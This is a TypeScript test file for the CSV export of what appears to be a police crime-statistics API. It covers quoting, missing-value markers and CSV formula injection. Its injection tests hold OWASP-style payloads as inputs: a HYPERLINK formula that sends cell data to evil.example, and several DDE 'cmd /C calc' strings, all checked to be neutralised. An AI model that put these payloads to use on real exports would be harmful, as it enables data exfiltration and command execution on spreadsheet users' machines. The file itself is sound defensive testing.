import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createApp } from '../app.ts';
import { neutraliseFormula, renderCsv } from './csv.ts';

/** A minimal RFC 4180 reader, written independently of the renderer, to round-trip through. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      record.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else field += ch;
  }
  return records;
}

describe('renderCsv', () => {
  it('writes a missing marker and puts its reason in the companion column', () => {
    const csv = renderCsv(
      [
        { force: 'durham', value: { missing: 'x' as const, reason: 'Durham could not supply arrest data' } },
        { force: 'kent', value: 12.5 },
      ],
      [
        { header: 'force', value: (r) => r.force },
        { header: 'value', value: (r) => r.value, mayBeMissing: true },
      ],
    );
    expect(csv).toBe(
      'force,value,value_missing_reason\r\ndurham,[x],Durham could not supply arrest data\r\nkent,12.5,\r\n',
    );
  });

  it('quotes commas, quotes and line breaks', () => {
    const csv = renderCsv([{ name: 'Avon and Somerset, "A&S"\nline' }], [{ header: 'name', value: (r) => r.name }]);
    expect(csv).toBe('name\r\n"Avon and Somerset, ""A&S""\nline"\r\n');
  });

  it.each([
    { label: 'NaN', cell: Number.NaN, message: /row 0 column 'v' is NaN/ },
    { label: 'null', cell: null, message: /row 0 column 'v' is null/ },
    { label: 'undefined', cell: undefined, message: /row 0 column 'v' is undefined/ },
  ])('refuses $label with the row and column named', ({ cell, message }) => {
    expect(() => renderCsv([{}], [{ header: 'v', value: () => cell as never }])).toThrow(message);
  });

  it('refuses a missing marker in a column not declared mayBeMissing', () => {
    expect(() => renderCsv([{}], [{ header: 'v', value: () => ({ missing: 'z', reason: 'n/a' }) }])).toThrow(
      /column 'v'.*mayBeMissing/,
    );
  });

  it('round-trips any strings through an RFC 4180 reader, a formula-like start behind a quote mark', () => {
    // Written independently of the renderer: the OWASP list of starts, and numbers (sign, digits, ',', '.', '%').
    const guarded = (text: string) =>
      /^[=+\-@\t\r]/.test(text) && !/^[+-]\d[\d,]*(\.\d+)?%?$/.test(text) ? `'${text}` : text;
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.string(), fc.string()), { maxLength: 8 }), (pairs) => {
        const csv = renderCsv(pairs, [
          { header: 'a', value: (r) => r[0] },
          { header: 'b', value: (r) => r[1] },
        ]);
        expect(parseCsv(csv)).toEqual([['a', 'b'], ...pairs.map(([a, b]) => [guarded(a), guarded(b)])]);
      }),
    );
  });
});

describe('CSV injection (OWASP): text a spreadsheet would run as a formula', () => {
  it.each([
    {
      start: '=',
      text: '=HYPERLINK("http://evil.example/?"&A1,"Durham")',
      written: `"'=HYPERLINK(""http://evil.example/?""&A1,""Durham"")"`,
    },
    { start: '+', text: "+cmd|' /C calc'!A0", written: `'+cmd|' /C calc'!A0` },
    { start: '-', text: "-2+3+cmd|' /C calc'!A0", written: `'-2+3+cmd|' /C calc'!A0` },
    { start: '@', text: "@SUM(1+9)*cmd|' /C calc'!A0", written: `'@SUM(1+9)*cmd|' /C calc'!A0` },
    { start: 'tab', text: '\t=1+1', written: `'\t=1+1` },
    { start: 'carriage return', text: '\r=1+1', written: `"'\r=1+1"` },
  ])('writes a text cell starting with $start behind a quote mark', ({ text, written }) => {
    const csv = renderCsv([{ text }], [{ header: 'crime_type', value: (r) => r.text }]);
    expect(csv).toBe(`crime_type\r\n${written}\r\n`);
  });

  it("guards a missing value's reason too, but leaves the marker alone", () => {
    const csv = renderCsv([{}], [{ header: 'v', value: () => ({ missing: 'x', reason: '=1+1' }), mayBeMissing: true }]);
    expect(parseCsv(csv)[1]).toEqual(['[x]', "'=1+1"]);
  });

  it.each([
    { label: 'a negative number', cell: -5.25, written: '-5.25' },
    { label: 'a negative integer', cell: -15_323, written: '-15323' },
    { label: 'number-only text with a sign and percent', cell: '-7%', written: '-7%' },
    { label: 'number-only text with a plus and separators', cell: '+1,234.5', written: '"+1,234.5"' },
    {
      label: 'text with an inner formula sign',
      cell: 'Violence against the person - with injury',
      written: 'Violence against the person - with injury',
    },
  ])('leaves $label untouched', ({ cell, written }) => {
    expect(renderCsv([{ cell }], [{ header: 'v', value: (r) => r.cell }])).toBe(`v\r\n${written}\r\n`);
  });

  it('writes the real data as the JSON has it: negative changes as numbers, labels as they are', async () => {
    const app = createApp();
    const json = (await (await app.request('/v1/metrics/crime_change_vs_2011')).json()) as {
      rows: Array<{ force: { slug: string }; value: number | { missing: string } }>;
    };
    const csv = parseCsv(await (await app.request('/v1/metrics/crime_change_vs_2011.csv')).text());
    const [head, ...body] = csv;
    const valueAt = head!.indexOf('value');
    const written = new Map(body.map((row) => [row[head!.indexOf('force')], row[valueAt]]));
    const negatives = json.rows.filter((row) => typeof row.value === 'number' && row.value < 0);
    expect(negatives.length).toBeGreaterThan(0);
    for (const row of negatives) expect(written.get(row.force.slug), row.force.slug).toBe(String(row.value));

    // Real labels that start with a quote mark ("'Right to Ask' disclosures") pass through as they are.
    const { metrics } = (await (await app.request('/v1/metrics')).json()) as { metrics: Array<{ label: string }> };
    const [catalogueHead, ...catalogueRows] = parseCsv(await (await app.request('/v1/metrics.csv')).text());
    const labelAt = catalogueHead!.indexOf('label');
    expect(catalogueRows.map((row) => row[labelAt])).toEqual(metrics.map((metric) => metric.label));
  });

  it.each(['=1+1', '+A1', '-x', '@x'])('neutraliseFormula(%j) starts with a quote mark', (text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
  });
});
